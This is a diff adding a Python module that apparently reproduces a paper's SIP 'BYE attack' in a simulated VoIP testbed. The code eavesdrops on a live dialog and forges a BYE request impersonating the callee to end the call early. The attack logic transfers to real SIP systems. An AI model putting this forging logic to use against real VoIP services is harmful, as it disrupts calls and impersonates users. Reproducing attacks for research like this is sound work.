@@ -1,0 +1,59 @@
+"""The BYE attack (paper §4.2.1, Figure 5).
+
+"The goal of the BYE attack is to prematurely tear down an existing
+dialog session ... Attacker sends a faked BYE message to A.  After
+that, A will believe that it is B who wants to tear down the connection
+... A will stop its outward RTP flow immediately, while B will continue
+to send RTP packets to A."
+"""
+
+from __future__ import annotations
+
+from repro.attacks.base import AttackerAgent, AttackReport, SpiedDialog
+from repro.sip.constants import METHOD_BYE
+from repro.voip.testbed import Testbed
+
+
+class ByeAttack:
+    """Forge a BYE to client A impersonating client B."""
+
+    name = "bye-attack"
+
+    def __init__(self, testbed: Testbed) -> None:
+        self.testbed = testbed
+        self.agent = AttackerAgent(
+            testbed.attacker_stack, testbed.loop, testbed.attacker_eye
+        )
+        self.report = AttackReport(name=self.name)
+
+    def launch_at(self, when: float) -> AttackReport:
+        """Schedule the forged BYE for absolute simulation time ``when``."""
+        self.testbed.loop.call_at(when, self._fire)
+        return self.report
+
+    def launch_now(self) -> AttackReport:
+        self._fire()
+        return self.report
+
+    def _fire(self) -> None:
+        dialog = self.agent.spy.newest_live_dialog()
+        if dialog is None:
+            self.report.details["error"] = "no live dialog to attack"
+            return
+        request, victim = self.agent.forge_in_dialog_request(
+            dialog, METHOD_BYE, impersonate_callee=True
+        )
+        self.agent.send_sip(request, victim)
+        self.report.launched_at = self.testbed.loop.now()
+        self.report.completed = True
+        self.report.details.update(
+            {
+                "call_id": dialog.call_id,
+                "victim": str(victim),
+                "impersonated": dialog.callee_addr().uri.address_of_record,
+            }
+        )
+
+    def victim_dialog(self) -> SpiedDialog | None:
+        call_id = self.report.details.get("call_id")
+        return self.agent.spy.dialogs.get(call_id) if call_id else None
